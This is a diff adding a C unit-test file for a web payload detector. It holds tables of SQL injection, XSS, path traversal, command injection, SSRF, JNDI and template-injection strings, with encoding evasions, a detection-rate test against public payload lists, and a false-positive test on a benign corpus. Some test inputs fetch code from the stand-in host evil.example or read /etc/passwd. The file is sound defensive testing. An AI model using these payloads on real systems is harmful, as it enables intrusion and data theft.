@@ -1,0 +1,532 @@
+/* test_dp.c - payload detectors: unit tables per detector (positive and
+ * negative), decoding evasions, the splitters, detection rates on the
+ * public payload lists and zero matches on the benign corpus. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <dirent.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "dp.h"
+
+
+
+static int has_kind(const char *v, unsigned where, enum dp_kind k)
+{
+	struct dp_match m[DP__COUNT];
+	int n = dp_scan(v, strlen(v), where, m, DP__COUNT);
+	for (int i = 0; i < n; i++)
+		if (m[i].kind == k)
+			return 1;
+	return 0;
+}
+
+struct vcase {
+	const char *name;
+	const char *in;
+	unsigned where;
+	enum dp_kind want; /* DP_NONE: must produce no match at all */
+};
+
+static void run_table(const struct vcase *t, size_t n)
+{
+	int bad = 0;
+	for (size_t i = 0; i < n; i++) {
+		struct dp_match m[DP__COUNT];
+		int k = dp_scan(t[i].in, strlen(t[i].in), t[i].where, m, DP__COUNT);
+		int ok;
+		if (t[i].want == DP_NONE)
+			ok = k == 0;
+		else
+			ok = has_kind(t[i].in, t[i].where, t[i].want);
+		if (!ok) {
+			bad++;
+			fprintf(stderr, "  FAIL %s: got %d match(es)%s%s%s\n", t[i].name, k,
+				k ? " first=" : "", k ? dp_kind_names[m[0].kind] : "",
+				k ? "" : "");
+			if (k)
+				fprintf(stderr, "       why: %s (%d)\n", m[0].why, m[0].score);
+		}
+	}
+	assert_int_equal(bad, 0);
+}
+
+#define Q DP_WHERE_QUERY
+#define P DP_WHERE_PATH
+
+static void test_sqli_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"tautology after quote", "admin' or '1'='1", Q, DP_SQLI},
+		{"tautology after dquote", "x\" or \"a\"=\"a", Q, DP_SQLI},
+		{"numeric tautology", "1 or 1=1", Q, DP_SQLI},
+		{"paren tautology", "1') or ('a'='a", Q, DP_SQLI},
+		{"comment truncation", "admin'--", Q, DP_SQLI},
+		{"hash truncation", "bob' #", Q, DP_SQLI},
+		{"union select list", "1 union select 1,2,3", Q, DP_SQLI},
+		{"union all select from", "' union all select password from users--", Q, DP_SQLI},
+		{"union select null", "-1 UNION SELECT NULL", Q, DP_SQLI},
+		{"stacked drop", "1; drop table users", Q, DP_SQLI},
+		{"stacked after break", "x'; delete from accounts;--", Q, DP_SQLI},
+		{"stacked exec", "1;exec master..xp_cmdshell 'dir'", Q, DP_SQLI},
+		{"sleep", "1 and sleep(5)", Q, DP_SQLI},
+		{"pg_sleep concat", "'||pg_sleep(10)--", Q, DP_SQLI},
+		{"waitfor", "1;waitfor delay '0:0:10'--", Q, DP_SQLI},
+		{"benchmark", "benchmark(5000000,md5(1))", Q, DP_SQLI},
+		{"information_schema", "1 and (select count(*) from information_schema.tables)>0", Q, DP_SQLI},
+		{"char in boolean", "1 AND ASCII(SUBSTRING(user(),1,1))>64", Q, DP_SQLI},
+		{"order by probe", "1 order by 5--", Q, DP_SQLI},
+		{"break then order by", "x' ORDER BY 3#", Q, DP_SQLI},
+		{"concat after break", "a'||'b", Q, DP_SQLI},
+		{"having tautology", "1 having 1=1--", Q, DP_SQLI},
+		{"like tautology", "' or username like '%", Q, DP_SQLI},
+		{"versioned comment", "1 /*!50000union*/ /*!50000select*/ 1,2", Q, DP_SQLI},
+		{"into outfile", "1 union select 'x' into outfile '/tmp/x'", Q, DP_SQLI},
+		{"select a plan", "select a plan", Q, DP_NONE},
+		{"drop by", "drop by anytime; we're open", Q, DP_NONE},
+		{"union station", "Union Station, Chicago", Q, DP_NONE},
+		{"1 or 2 items", "1 or 2 items", Q, DP_NONE},
+		{"irish name", "O'Brien", Q, DP_NONE},
+		{"its", "it's a 'great' day or so", Q, DP_NONE},
+		{"sort expr", "name asc", Q, DP_NONE},
+		{"filter text", "price < 5 and rating > 4", Q, DP_NONE},
+		{"quote and hash", "Don't forget issue #42 -- thanks", Q, DP_NONE},
+		{"true or false", "true or false", Q, DP_NONE},
+		{"sleep words", "I need sleep (8 hours)", Q, DP_NONE},
+		{"english union select", "the union select committee", Q, DP_NONE},
+		{"semicolon select", "options; select one", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_xss_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"script tag", "<script>alert(1)</script>", Q, DP_XSS},
+		{"img onerror", "<img src=x onerror=alert(1)>", Q, DP_XSS},
+		{"svg onload slash", "<svg/onload=alert(1)>", Q, DP_XSS},
+		{"quoted attr gt", "<x 1=\">\" onclick=alert(1)>", Q, DP_XSS},
+		{"attr after quoted value", "<p title='a'onmouseover=prompt(1)>", Q, DP_XSS},
+		{"javascript href", "<a href=\"javascript:alert(1)\">x</a>", Q, DP_XSS},
+		{"javascript with tab", "<a href=\"java\tscript:alert(1)\">x</a>", Q, DP_XSS},
+		{"javascript value", "javascript:alert(document.cookie)", Q, DP_XSS},
+		{"data html value", "data:text/html;base64,PHNjcmlwdD4=", Q, DP_XSS},
+		{"iframe", "<iframe src=//evil.example>", Q, DP_XSS},
+		{"attribute break", "\" onfocus=alert(1) autofocus x=\"", Q, DP_XSS},
+		{"js string break", "';alert(document.domain)//", Q, DP_XSS},
+		{"js minus break", "'-confirm(1)-'", Q, DP_XSS},
+		{"style expression", "<div style=\"width:expression(alert(1))\">", Q, DP_XSS},
+		{"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//x\">", Q, DP_XSS},
+		{"unknown tag handler", "<foo onpointerenter=alert(1)>", Q, DP_XSS},
+		{"less than three", "I <3 cats", Q, DP_NONE},
+		{"math", "3<5 and 7>2", Q, DP_NONE},
+		{"bold html", "<b>bold</b> and <i>it</i>", Q, DP_NONE},
+		{"link html", "<a href=\"https://example.com/docs\">docs</a>", Q, DP_NONE},
+		{"img html", "<img src=\"cat.png\" alt=\"cat\">", Q, DP_NONE},
+		{"quote on word", "\"online\" shopping", Q, DP_NONE},
+		{"arrow", "a -> b <- c", Q, DP_NONE},
+		{"javascript word", "learn javascript: the good parts", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_traversal_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"dotdot passwd", "../../../etc/passwd", Q, DP_TRAVERSAL},
+		{"backslash winini", "..\\..\\windows\\win.ini", Q, DP_TRAVERSAL},
+		{"encoded dots", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", Q, DP_TRAVERSAL},
+		{"double encoded", "%252e%252e%252f%252e%252e%252fboot.ini", Q, DP_TRAVERSAL},
+		{"overlong slash", "..%c0%af..%c0%afetc/passwd", Q, DP_TRAVERSAL},
+		{"filter evasion", "....//....//etc/hosts", Q, DP_TRAVERSAL},
+		{"absolute sensitive", "/etc/shadow", Q, DP_TRAVERSAL},
+		{"nul byte", "report.pdf%00.jpg", Q, DP_TRAVERSAL},
+		{"path past root", "/static/../../secret", P, DP_TRAVERSAL},
+		{"path within root", "/static/css/../img/logo.png", P, DP_NONE},
+		{"file name", "report-2024.pdf", Q, DP_NONE},
+		{"relative inside", "docs/guide/intro.md", Q, DP_NONE},
+		{"version dots", "v1.2.3", Q, DP_NONE},
+		{"ellipsis text", "wait... what?", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_cmdi_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"semicolon id", "x;id", Q, DP_CMDI},
+		{"pipe cat", "a | cat /etc/passwd", Q, DP_CMDI},
+		{"and wget", "1 && wget http://evil.example/x.sh", Q, DP_CMDI},
+		{"backtick", "`whoami`", Q, DP_CMDI},
+		{"dollar paren", "$(uname -a)", Q, DP_CMDI},
+		{"newline", "127.0.0.1%0als -la", Q, DP_CMDI},
+		{"ifs", ";cat${IFS}/etc/passwd", Q, DP_CMDI},
+		{"abs path", "|/usr/bin/id", Q, DP_CMDI},
+		{"sleep arg", "; sleep 10", Q, DP_CMDI},
+		{"php system", "system('ls')", Q, DP_CMDI},
+		{"table header", "Name|ID|Email", Q, DP_NONE},
+		{"rock and roll", "Rock & Roll; cat lovers welcome", Q, DP_NONE},
+		{"jquery", "$(document).ready", Q, DP_NONE},
+		{"salt pepper", "salt & pepper | sleep well", Q, DP_NONE},
+		{"id card", "Tom's & Jerry's; id card", Q, DP_NONE},
+		{"sleep hours", "price: $5 | sleep 8h", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_ssrf_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"loopback", "http://127.0.0.1:8080/admin", Q, DP_SSRF},
+		{"localhost", "http://localhost/", Q, DP_SSRF},
+		{"decimal ip", "http://2130706433/", Q, DP_SSRF},
+		{"hex ip", "http://0x7f000001/", Q, DP_SSRF},
+		{"octal ip", "http://0177.0.0.1/", Q, DP_SSRF},
+		{"metadata", "http://169.254.169.254/latest/meta-data/", Q, DP_SSRF},
+		{"gce metadata", "http://metadata.google.internal/computeMetadata/v1/", Q, DP_SSRF},
+		{"aws v6 metadata", "http://[fd00:ec2::254]/latest/", Q, DP_SSRF},
+		{"v6 loopback", "http://[::1]/", Q, DP_SSRF},
+		{"mapped v4", "http://[::ffff:127.0.0.1]/", Q, DP_SSRF},
+		{"private", "https://10.0.0.5/internal", Q, DP_SSRF},
+		{"private 172", "http://172.20.1.1/", Q, DP_SSRF},
+		{"userinfo trick", "http://example.com@127.0.0.1/", Q, DP_SSRF},
+		{"file scheme", "file:///etc/hostname", Q, DP_SSRF},
+		{"gopher", "gopher://10.0.0.1:6379/_INFO", Q, DP_SSRF},
+		{"public", "https://www.wikipedia.org/wiki/Main_Page", Q, DP_NONE},
+		{"public ip", "http://93.184.216.34/", Q, DP_NONE},
+		{"172 public", "http://172.32.0.1/", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_jndi_ssti_table(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"jndi plain", "${jndi:ldap://evil.example/a}", Q, DP_JNDI},
+		{"jndi lower", "${${lower:j}ndi:ldap://x/a}", Q, DP_JNDI},
+		{"jndi default", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", Q, DP_JNDI},
+		{"jndi env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", Q, DP_JNDI},
+		{"jndi upper encoded", "%24%7Bjndi:dns://x%7D", Q, DP_JNDI},
+		{"ssti jinja math", "{{7*7}}", Q, DP_SSTI},
+		{"ssti el math", "${7*7}", Q, DP_SSTI},
+		{"ssti erb", "<%= 7*7 %>", Q, DP_SSTI},
+		{"ssti ruby interp", "#{7*7}", Q, DP_SSTI},
+		{"ssti mro", "{{''.__class__.__mro__[1]}}", Q, DP_SSTI},
+		{"ssti config", "{{config.items()}}", Q, DP_SSTI},
+		{"ssti spring", "${T(java.lang.Runtime).getRuntime()}", Q, DP_SSTI},
+		{"ssti stmt", "{% for c in [].__class__.__base__.__subclasses__() %}", Q, DP_SSTI},
+		{"jinja var", "Hello {{ user.name }}", Q, DP_NONE},
+		{"shell var", "${HOME}/bin", Q, DP_NONE},
+		{"price template", "Total: ${price}", Q, DP_NONE},
+		{"plain math", "3*3=9", Q, DP_NONE},
+		{"ruby interp name", "#{name}", Q, DP_NONE},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_evasions(void **st)
+{
+	(void)st;
+	static const struct vcase t[] = {
+		{"double percent union", "1%2520union%2520select%25201,2", Q, DP_SQLI},
+		{"html entity quote", "admin&#39; or &#x27;1&#x27;=&#39;1", Q, DP_SQLI},
+		{"unicode escape script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", Q, DP_XSS},
+		{"hex escape tag", "\\x3cimg src=x onerror=alert(1)\\x3e", Q, DP_XSS},
+		{"percent u", "%u003csvg onload=alert(1)%u003e", Q, DP_XSS},
+		{"mixed case", "1 UnIoN SeLeCt 1,2", Q, DP_SQLI},
+		{"comment in keyword", "1 UN/**/ION SEL/**/ECT 1,2", Q, DP_SQLI},
+		{"comment as space", "1/**/union/**/select/**/1,2", Q, DP_SQLI},
+		{"plus as space", "1+union+select+1,2", Q, DP_SQLI},
+		{"entity in tag", "&lt;script&gt;alert(1)&lt;/script&gt;", Q, DP_XSS},
+		{"named entity colon", "<a href=javascript&colon;alert(1)>x", Q, DP_XSS},
+		{"triple encoded dots", "%25252e%25252e%25252f%25252e%25252e%25252fetc/passwd", Q, DP_TRAVERSAL},
+	};
+	run_table(t, sizeof(t) / sizeof(t[0]));
+}
+
+static void test_match_fields(void **st)
+{
+	(void)st;
+	struct dp_match m[4];
+	const char *v = "' union select secret_marker_xyz from t--";
+	int n = dp_scan(v, strlen(v), Q, m, 4);
+	assert_true(n >= 1);
+	assert_int_equal(m[0].kind, DP_SQLI);
+	assert_true(m[0].score >= 80 && m[0].score <= 100);
+	assert_null(strstr(m[0].why, "secret_marker"));
+	assert_true(strlen(m[0].why) > 0);
+	for (int i = 1; i < n; i++)
+		assert_true(m[i - 1].score >= m[i].score);
+	assert_int_equal(dp_scan(v, strlen(v), Q, m, 0), 0);
+	assert_string_equal(dp_kind_names[DP_TRAVERSAL], "path_traversal");
+	assert_string_equal(dp_kind_names[DP_CMDI], "cmd_injection");
+}
+
+static void test_scan_query(void **st)
+{
+	(void)st;
+	struct dp_match m[DP__COUNT];
+	const char *q = "page=2&q=%27+or+%271%27%3D%271&file=..%2F..%2Fetc%2Fpasswd";
+	int n = dp_scan_query(q, strlen(q), Q, m, DP__COUNT);
+	int sql = 0, tr = 0;
+	for (int i = 0; i < n; i++) {
+		sql |= m[i].kind == DP_SQLI;
+		tr |= m[i].kind == DP_TRAVERSAL;
+	}
+	assert_true(sql && tr);
+	q = "page=2&sort=name+asc&q=O%27Brien&tags=a,b";
+	assert_int_equal(dp_scan_query(q, strlen(q), Q, m, DP__COUNT), 0);
+	q = "%3Cscript%3E=1"; /* payload in the name */
+	assert_int_equal(dp_scan_query(q, strlen(q), Q, m, DP__COUNT), 1);
+	assert_int_equal(m[0].kind, DP_XSS);
+}
+
+static void test_scan_json(void **st)
+{
+	(void)st;
+	struct dp_match m[DP__COUNT];
+	const char *b = "{\"user\":{\"name\":\"Ann\",\"bio\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"},\"n\":[1,2,true,null]}";
+	int n = dp_scan_json(b, strlen(b), m, DP__COUNT);
+	assert_int_equal(n, 1);
+	assert_int_equal(m[0].kind, DP_XSS);
+	b = "{\"q\":\"x\\\" or \\\"1\\\"=\\\"1\"}";
+	n = dp_scan_json(b, strlen(b), m, DP__COUNT);
+	assert_int_equal(n, 1);
+	assert_int_equal(m[0].kind, DP_SQLI);
+	b = "{\"name\":\"O'Brien\",\"note\":\"it's \\\"fine\\\"\",\"price\":3.5e2,\"ok\":false}";
+	assert_int_equal(dp_scan_json(b, strlen(b), m, DP__COUNT), 0);
+	b = "{\"a\":\"unterminated ${jndi:ldap://x/y}";
+	n = dp_scan_json(b, strlen(b), m, DP__COUNT);
+	assert_int_equal(n, 1);
+	assert_int_equal(m[0].kind, DP_JNDI);
+}
+
+static void test_scan_cookie(void **st)
+{
+	(void)st;
+	struct dp_match m[DP__COUNT];
+	const char *c = "sid=abc123; theme=dark; pref=\"%7B%22a%22%3A1%7D\"";
+	assert_int_equal(dp_scan_cookie(c, strlen(c), m, DP__COUNT), 0);
+	c = "sid=abc; track=${jndi:ldap://evil.example/x}";
+	assert_int_equal(dp_scan_cookie(c, strlen(c), m, DP__COUNT), 1);
+	assert_int_equal(m[0].kind, DP_JNDI);
+}
+
+/* Random strings over an alphabet of syntax characters, every prefix of a
+ * long mixed payload and a value past DP_MAX_VALUE: no crash, bounded,
+ * results well-formed (run under valgrind). */
+static void test_robust_inputs(void **st)
+{
+	(void)st;
+	static const char alpha[] = "'\"`<>/\\.;|&$(){}[]%#-*=!@:?+ \t\nabcjndixorunselct0123456789\xc0\xaf";
+	struct dp_match m[DP__COUNT];
+	unsigned x = 12345;
+	char buf[600];
+
+	for (int r = 0; r < 3000; r++) {
+		size_t l = (x = x * 1103515245u + 12345u) % 300;
+		for (size_t i = 0; i < l; i++) {
+			x = x * 1103515245u + 12345u;
+			buf[i] = alpha[(x >> 16) % (sizeof(alpha) - 1)];
+		}
+		int n = dp_scan(buf, l, 1 + r % 5, m, DP__COUNT);
+		assert_true(n >= 0 && n < DP__COUNT);
+		for (int i = 0; i < n; i++) {
+			assert_true(m[i].kind > DP_NONE && m[i].kind < DP__COUNT);
+			assert_true(m[i].score >= DP_MIN_SCORE && m[i].score <= 100);
+		}
+		dp_scan_query(buf, l, DP_WHERE_QUERY, m, DP__COUNT);
+		dp_scan_json(buf, l, m, DP__COUNT);
+		dp_scan_cookie(buf, l, m, DP__COUNT);
+	}
+	const char *mix = "{\"a\":\"${${lower:j}ndi:x}' union select 1,2-- <svg/onload=alert(1)> ../../etc/passwd;id {{7*7}} http://[::1]/\\u0041\"}";
+	for (size_t k = 0; k <= strlen(mix); k++) {
+		memcpy(buf, mix, k);
+		dp_scan(buf, k, DP_WHERE_BODY, m, DP__COUNT);
+		dp_scan_json(buf, k, m, DP__COUNT);
+	}
+	static char big[DP_MAX_VALUE * 3];
+	memset(big, '(', sizeof(big));
+	memcpy(big + sizeof(big) - 20, "' or 1=1--", 10);
+	assert_true(dp_scan(big, sizeof(big), DP_WHERE_QUERY, m, DP__COUNT) >= 0);
+	memset(big, '$', sizeof(big));
+	for (size_t i = 1; i < sizeof(big); i += 2)
+		big[i] = '{';
+	assert_true(dp_scan(big, sizeof(big), DP_WHERE_QUERY, m, DP__COUNT) >= 0);
+}
+
+/* ---- corpus-driven tests ------------------------------------------------ */
+
+static const char *payload_dir(void)
+{
+	static const char *const cand[] = {"../shared/data/payloads", "/work/shared/data/payloads"};
+	const char *e = getenv("SW_PAYLOADS");
+	if (e && *e)
+		return e;
+	for (size_t i = 0; i < 2; i++) {
+		DIR *d = opendir(cand[i]);
+		if (d) {
+			closedir(d);
+			return cand[i];
+		}
+	}
+	return NULL;
+}
+
+/* Call fn for every non-empty line of path; returns lines seen or -1. */
+static int for_lines(const char *path, void (*fn)(const char *l, size_t n, void *ctx), void *ctx)
+{
+	FILE *f = fopen(path, "r");
+	char *line = NULL;
+	size_t cap = 0;
+	ssize_t r;
+	int cnt = 0;
+
+	if (!f)
+		return -1;
+	while ((r = getline(&line, &cap, f)) >= 0) {
+		while (r > 0 && (line[r - 1] == '\n' || line[r - 1] == '\r'))
+			line[--r] = '\0';
+		if (r == 0)
+			continue;
+		fn(line, (size_t)r, ctx);
+		cnt++;
+	}
+	free(line);
+	fclose(f);
+	return cnt;
+}
+
+struct rate {
+	enum dp_kind kind;
+	int total, hit, any;
+	int shown;
+};
+
+static void rate_line(const char *l, size_t n, void *ctx)
+{
+	struct rate *r = ctx;
+	struct dp_match m[DP__COUNT];
+	int k = dp_scan(l, n, DP_WHERE_QUERY, m, DP__COUNT), hit = 0;
+	for (int i = 0; i < k; i++)
+		hit |= m[i].kind == r->kind;
+	r->total++;
+	r->hit += hit;
+	r->any += k > 0;
+	if (!hit && getenv("SW_SHOW_MISSES") && r->shown++ < 40)
+		printf("    miss: %s\n", l);
+}
+
+static void test_payload_rates(void **st)
+{
+	(void)st;
+	static const struct {
+		const char *prefix;
+		enum dp_kind kind;
+		int min_pct;
+	} groups[] = {
+		{"SQL-Injection_", DP_SQLI, 90},
+		{"XSS-Injection_", DP_XSS, 90},
+		{"Directory-Traversal_", DP_TRAVERSAL, 90},
+		{"Command-Injection_", DP_CMDI, 85},
+		{"Server-Side-Template-Injection_", DP_SSTI, 85},
+	};
+	const char *dir = payload_dir();
+	int seen_groups = 0;
+
+	if (!dir) {
+		fprintf(stderr, "payload directory not found (set SW_PAYLOADS)\n");
+		fail();
+	}
+	for (size_t g = 0; g < sizeof(groups) / sizeof(groups[0]); g++) {
+		struct rate tot = {groups[g].kind, 0, 0, 0, 0};
+		DIR *d = opendir(dir);
+		struct dirent *de;
+		assert_non_null(d);
+		while ((de = readdir(d))) {
+			char path[1024];
+			struct rate r = {groups[g].kind, 0, 0, 0, 0};
+			size_t nl = strlen(de->d_name);
+			if (strncmp(de->d_name, groups[g].prefix, strlen(groups[g].prefix)) != 0)
+				continue;
+			if (!(nl > 4 && (!strcmp(de->d_name + nl - 4, ".txt") ||
+					 (nl > 5 && !strcmp(de->d_name + nl - 5, ".fuzz")))))
+				continue;
+			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+			assert_true(for_lines(path, rate_line, &r) > 0);
+			printf("  %-52s %4d/%-4d %5.1f%% as %s (any kind %5.1f%%)\n", de->d_name,
+			       r.hit, r.total, 100.0 * r.hit / r.total, dp_kind_names[r.kind],
+			       100.0 * r.any / r.total);
+			tot.total += r.total;
+			tot.hit += r.hit;
+			tot.any += r.any;
+		}
+		closedir(d);
+		if (tot.total == 0)
+			continue;
+		seen_groups++;
+		printf("  == %-49s %4d/%-4d %5.1f%% (need %d%%)\n", groups[g].prefix, tot.hit,
+		       tot.total, 100.0 * tot.hit / tot.total, groups[g].min_pct);
+		assert_true(tot.hit * 100 >= groups[g].min_pct * tot.total);
+	}
+	assert_int_equal(seen_groups, 5);
+}
+
+struct fp {
+	int total, bad;
+};
+
+static void benign_line(const char *l, size_t n, void *ctx)
+{
+	struct fp *f = ctx;
+	struct dp_match m[DP__COUNT];
+	int k = dp_scan(l, n, DP_WHERE_QUERY, m, DP__COUNT);
+	f->total++;
+	if (k > 0) {
+		f->bad++;
+		printf("    false positive [%s %d: %s]: %s\n", dp_kind_names[m[0].kind], m[0].score,
+		       m[0].why, l);
+	}
+}
+
+static void test_benign_corpus(void **st)
+{
+	(void)st;
+	struct fp f = {0, 0};
+	int n = for_lines("tests/data/benign.txt", benign_line, &f);
+	assert_true(n >= 1500);
+	printf("  benign corpus: %d values, %d false positives\n", f.total, f.bad);
+	assert_int_equal(f.bad, 0);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_sqli_table),
+		cmocka_unit_test(test_xss_table),
+		cmocka_unit_test(test_traversal_table),
+		cmocka_unit_test(test_cmdi_table),
+		cmocka_unit_test(test_ssrf_table),
+		cmocka_unit_test(test_jndi_ssti_table),
+		cmocka_unit_test(test_evasions),
+		cmocka_unit_test(test_match_fields),
+		cmocka_unit_test(test_scan_query),
+		cmocka_unit_test(test_scan_json),
+		cmocka_unit_test(test_scan_cookie),
+		cmocka_unit_test(test_robust_inputs),
+		cmocka_unit_test(test_payload_rates),
+		cmocka_unit_test(test_benign_corpus),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
